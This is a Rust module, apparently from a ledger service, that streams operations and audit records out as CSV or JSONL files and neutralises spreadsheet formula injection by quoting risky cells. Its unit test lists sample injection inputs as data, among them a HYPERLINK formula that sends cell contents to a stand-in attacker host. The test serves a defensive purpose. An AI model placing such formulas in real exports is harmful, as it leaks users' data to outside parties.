//! Lists as files: the rows of the page, whole, read in short keyset pages while the file is written.
//!
//! Times are RFC 3339 in UTC, amounts exact text. Invariant: no cell begins with what a spreadsheet would run.

use std::convert::Infallible;

use axum::body::{Body, Bytes};
use axum::http::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use axum::response::{IntoResponse, Response};
use futures_util::stream;

use super::visit::Visit;
use crate::ledger::Ledger;
use crate::store::audit::Entry;
use crate::store::codec::At;
use crate::store::operations::{Filter, Operation, list};

/// Rows read at once.
const PAGE: i64 = 500;
const RUNS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
const CSV: &str = "text/csv; charset=utf-8";
const LINES: &str = "application/jsonl";

const OPERATION: &str = "id,tenant,contract,contract_version,status,reason,contradicted_since,customer,summary,\
    amount,currency,target_id,intent,created_at,settled_at\r\n";
const ENTRY: &str = "at,actor,roles,verb,outcome,reason,decision,subject_kind,subject,sequence,tenant,status,hash\r\n";

/// What the page is asked for as, if as a file.
pub fn wanted(visit: &Visit) -> Option<&str> {
    visit.asked("format").filter(|format| ["csv", "jsonl"].contains(format))
}

/// A cell: quoted where it must be, never a formula.
fn cell(text: &str) -> String {
    let is_number = text.strip_prefix('-').unwrap_or(text).parse::<rust_decimal::Decimal>().is_ok();
    let safe = if text.starts_with(RUNS) && !is_number { format!("'{text}") } else { text.to_string() };
    if safe.contains(['"', ',', '\n', '\r']) { format!("\"{}\"", safe.replace('"', "\"\"")) } else { safe }
}

fn line(cells: &[&str]) -> String {
    let cells: Vec<String> = cells.iter().map(|text| cell(text)).collect();
    format!("{}\r\n", cells.join(","))
}

fn time(at: Option<At>) -> String {
    at.map(|at| at.to_string()).unwrap_or_default()
}

fn operation(row: &Operation) -> String {
    let text = |value: &Option<String>| value.clone().unwrap_or_default();
    line(&[
        &row.id.to_string(),
        &row.tenant,
        &row.contract,
        &row.contract_version.to_string(),
        row.status.as_str(),
        row.reason.map_or("", |reason| reason.as_str()),
        &time(row.contradicted_since),
        &text(&row.external_customer_id),
        &row.summary,
        &row.amount.map(|amount| amount.0.to_string()).unwrap_or_default(),
        &text(&row.currency),
        &text(&row.target_public_id),
        &row.intent_text,
        &time(Some(row.created_at)),
        &time(row.settled_at),
    ])
}

fn entry(row: &Entry) -> String {
    let text = |value: &Option<String>| value.clone().unwrap_or_default();
    line(&[
        &row.at.to_string(),
        &row.actor_name,
        &row.actor_roles,
        &row.verb,
        &row.outcome,
        &text(&row.reason),
        &text(&row.decision),
        &row.subject_kind,
        &row.subject_id,
        &row.sequence.to_string(),
        &text(&row.tenant),
        &text(&row.to_status),
        &row.hash,
    ])
}

fn file(name: &str, kind: &'static str, body: Body) -> Response {
    let disposition = format!("attachment; filename=\"{name}\"");
    ([(CONTENT_TYPE, kind.to_string()), (CONTENT_DISPOSITION, disposition)], body).into_response()
}

/// Everything the filter finds, newest first.
pub fn operations(visit: &Visit, filter: Filter) -> Response {
    let start = Some((visit.app.ledger.clone(), Filter { limit: PAGE, ..filter }, true));
    let pages = stream::unfold(start, |state| async move {
        let (ledger, filter, first) = state?;
        let (mut text, next) = page(&ledger, filter).await?;
        if first {
            text.insert_str(0, OPERATION);
        }
        Some((Ok::<_, Infallible>(Bytes::from(text)), next.map(|filter| (ledger, filter, false))))
    });
    file("operations.csv", CSV, Body::from_stream(pages))
}

/// One page as text, and what the next one asks for. A store that fails ends the file with a line that says so.
async fn page(ledger: &Ledger, filter: Filter) -> Option<(String, Option<Filter>)> {
    let read = async {
        let mut tx = ledger.db.read().await?;
        list(&mut tx, &filter).await
    };
    match read.await {
        Ok(rows) => {
            let text = rows.iter().map(operation).collect();
            let full = i64::try_from(rows.len()).unwrap_or(i64::MAX) == PAGE;
            let last = rows.last().filter(|_| full).map(|row| row.id);
            Some((text, last.map(|id| Filter { before: Some(id), ..filter })))
        }
        Err(error) => {
            tracing::error!(%error, "an export broke off");
            Some(("(the file breaks off here: ask again)\r\n".into(), None))
        }
    }
}

pub fn queue(rows: &[Operation]) -> Response {
    let text: String = rows.iter().map(operation).collect();
    file("queue.csv", CSV, Body::from(format!("{OPERATION}{text}")))
}

pub fn audit(format: &str, rows: &[Entry]) -> Response {
    if format == "csv" {
        let text: String = rows.iter().map(entry).collect();
        return file("audit.csv", CSV, Body::from(format!("{ENTRY}{text}")));
    }
    let lines = rows.iter().map(|row| {
        let value = serde_json::json!({
            "at": row.at.to_string(), "actor": row.actor_name, "roles": row.actor_roles, "verb": row.verb,
            "outcome": row.outcome, "reason": row.reason, "decision": row.decision,
            "subject_kind": row.subject_kind, "subject": row.subject_id, "sequence": row.sequence,
            "tenant": row.tenant, "status": row.to_status, "hash": row.hash,
        });
        format!("{value}\n")
    });
    file("audit.jsonl", LINES, Body::from(lines.collect::<String>()))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// SEC-04
    #[test]
    fn a_cell_is_never_a_formula_and_quotes_what_it_must() {
        for (text, written) in [
            ("=1+1", "'=1+1"),
            ("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\""),
            ("+1+1", "'+1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "\"'\r=1+1\""),
            ("-1.50", "-1.50"),
            ("-1+1", "'-1+1"),
            ("normal, \"quoted\" text\nsecond line", "\"normal, \"\"quoted\"\" text\nsecond line\""),
        ] {
            assert_eq!(cell(text), written);
        }
    }
}
